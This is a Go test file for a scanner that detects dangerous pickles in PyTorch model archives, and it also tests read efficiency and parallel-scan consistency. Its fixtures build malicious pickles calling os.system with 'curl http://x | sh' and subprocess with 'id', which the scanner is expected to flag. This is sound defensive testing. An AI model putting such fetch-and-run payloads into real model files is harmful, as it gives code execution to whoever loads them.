package scan

import (
	"bytes"
	"context"
	"encoding/json"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
)

// countingReaderAt counts the bytes read through it.
type countingReaderAt struct {
	r     *bytes.Reader
	bytes atomic.Int64
	reads atomic.Int64
}

func (c *countingReaderAt) ReadAt(p []byte, off int64) (int, error) {
	n, err := c.r.ReadAt(p, off)
	c.bytes.Add(int64(n))
	c.reads.Add(1)
	return n, err
}

// TestTensorStoragesAreNotRead checks that the storages of a PyTorch zip
// are recognised from their first bytes without being read, and that the
// headers of thousands of members cost a few reads, not several each.
func TestTensorStoragesAreNotRead(t *testing.T) {
	members := []zipMember{{name: "model/data.pkl", data: stateDictPickle(2000)}}
	for i := 0; i < 2000; i++ {
		n := 16
		if i%500 == 0 {
			n = 8 << 20
		}
		members = append(members, zipMember{name: "model/data/" + strconv.Itoa(i), data: bytes.Repeat([]byte{0, 0, 0x80, 0x3f}, n/4)})
	}
	members = append(members, zipMember{name: "model/version", data: []byte("3\n")})
	file := buildZip(members...)
	ra := &countingReaderAt{r: bytes.NewReader(file)}
	rep, err := Reader(context.Background(), "model.pt", ra, int64(len(file)), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Format != "pytorch-zip" || rep.Summary == nil || rep.Summary.Tensors != 2000 {
		t.Fatalf("format %s, summary %+v: want a pytorch-zip of 2000 tensors", rep.Format, rep.Summary)
	}
	if got := ra.bytes.Load(); got > 4<<20 {
		t.Errorf("read %d bytes of a %d-byte file holding 32 MiB of tensor storages: storages were read", got, len(file))
	}
	if got := ra.reads.Load(); got > 200 {
		t.Errorf("%d reads for 2002 members: headers are read one by one", got)
	}
}

// TestPickleNamedLikeAStorageIsScanned checks that a member named like a
// tensor storage but holding a pickle, or another format, is scanned as what
// it holds: only bytes that no format claims are skipped as a storage.
func TestPickleNamedLikeAStorageIsScanned(t *testing.T) {
	evil := []byte(call4("os", "system", "curl http://x | sh"))
	proto0 := []byte(call0("subprocess", "call", "id"))
	padded := append(append([]byte{}, evil...), make([]byte, 1<<20)...)
	for name, data := range map[string][]byte{
		"protocol 4":            evil,
		"protocol 0, no header": proto0,
		"followed by 1 MiB":     padded,
		"gzip of a pickle":      gzipOf(evil),
	} {
		t.Run(name, func(t *testing.T) {
			file := buildZip(
				zipMember{name: "model/data.pkl", data: stateDictPickle(2)},
				zipMember{name: "model/data/0", data: make([]byte, 4096)},
				zipMember{name: "model/data/1", data: data},
				zipMember{name: "model/version", data: []byte("3\n")})
			rep, err := Reader(context.Background(), "model.pt", bytes.NewReader(file), int64(len(file)), Options{})
			if err != nil {
				t.Fatal(err)
			}
			if rep.Verdict != Unsafe {
				t.Fatalf("verdict %s, want unsafe: %+v", rep.Verdict, rep.Findings)
			}
			found := false
			for _, f := range rep.Findings {
				found = found || (strings.HasPrefix(f.Member, "model/data/1") && f.Severity == SeverityDangerous)
			}
			if !found {
				t.Errorf("no dangerous finding on model/data/1: %+v", rep.Findings)
			}
			if rep.Summary == nil || rep.Summary.Tensors != 1 {
				t.Errorf("summary %+v: want the one plain storage counted as a tensor", rep.Summary)
			}
		})
	}
}

// TestOpcodeTable checks that isOpcode, which lets a storage's first byte
// rule a pickle out, names exactly the opcodes the walker executes.
func TestOpcodeTable(t *testing.T) {
	for b := 0; b < 256; b++ {
		data := []byte{byte(b), 0, 0, 0, 0, 0, 0, 0, 0, '.'}
		w := walkPickles(bytes.NewReader(data), int64(len(data)), DefaultLimits(), newClassifier(nil))
		unknown := w.err != nil && strings.HasSuffix(w.err.Error(), "at offset 0: unknown opcode")
		if unknown == isOpcode[b] {
			t.Errorf("byte 0x%02x: isOpcode %v, but the walker says %v", b, isOpcode[b], w.err)
		}
	}
}

// TestWindowReadsLikeItsSource compares reads through a window with reads
// of the data itself, near the start, across window edges and past the end.
func TestWindowReadsLikeItsSource(t *testing.T) {
	data := make([]byte, 3*windowSize+123)
	for i := range data {
		data[i] = byte(i * 7)
	}
	src := bytes.NewReader(data)
	w := newWindow(src, int64(len(data)))
	for _, c := range []struct {
		off int64
		n   int
	}{{0, 30}, {10, 100}, {windowSize - 5, 10}, {windowSize - 5, 3}, {int64(len(data)) - 10, 30}, {int64(len(data)) - 10, 10},
		{5, windowSize}, {int64(len(data)), 4}, {-1, 4}, {2 * windowSize, 2}} {
		want, got := make([]byte, c.n), make([]byte, c.n)
		wn, werr := src.ReadAt(want, c.off)
		gn, gerr := w.ReadAt(got, c.off)
		if gn != wn || (gerr == nil) != (werr == nil) || !bytes.Equal(got[:gn], want[:wn]) {
			t.Errorf("ReadAt(%d bytes at %d) = %d, %v; the source gives %d, %v", c.n, c.off, gn, gerr, wn, werr)
		}
	}
}

// TestPrewalkedReportIsTheSame checks that walking a zip's large pickles on
// other cores gives the report a single core gives, finding for finding,
// including for members whose names mimic a nested member's.
func TestPrewalkedReportIsTheSame(t *testing.T) {
	big := func(p string) []byte { // a pickle of more than minPrewalk bytes
		return []byte(proto(2) + "X" + le32(minPrewalk) + strings.Repeat("a", minPrewalk) + "0" + p[2:])
	}
	inner := buildZip(zipMember{name: "x.pkl", data: big(call4("os", "system", "id"))})
	file := buildZip(
		zipMember{name: "a.pkl", data: big(proto(2) + glob("collections", "OrderedDict") + ")R.")},
		zipMember{name: "inner.zip", data: inner},
		zipMember{name: "inner.zip!x.pkl", data: big(proto(2) + "N.")},
		zipMember{name: "b.pkl", data: big(call4("subprocess", "run", "id"))},
		zipMember{name: "c.pkl", data: big(proto(2) + "X" + le32(5) + "ab")})
	scanWith := func(procs int) string {
		defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(procs))
		rep, err := Reader(context.Background(), "f.zip", bytes.NewReader(file), int64(len(file)), Options{})
		if err != nil {
			t.Fatal(err)
		}
		b, _ := json.Marshal(rep)
		return string(b)
	}
	want := scanWith(1)
	for _, f := range []string{`"member":"inner.zip!x.pkl","format":"pickle","severity":"dangerous"`, `"member":"b.pkl","format":"pickle","severity":"dangerous"`} {
		if !strings.Contains(want, f) {
			t.Fatalf("report lacks %s: %s", f, want)
		}
	}
	for i := 0; i < 20; i++ {
		if got := scanWith(4); got != want {
			t.Fatalf("report on 4 cores differs from the report on one:\n%s\n%s", got, want)
		}
	}
}
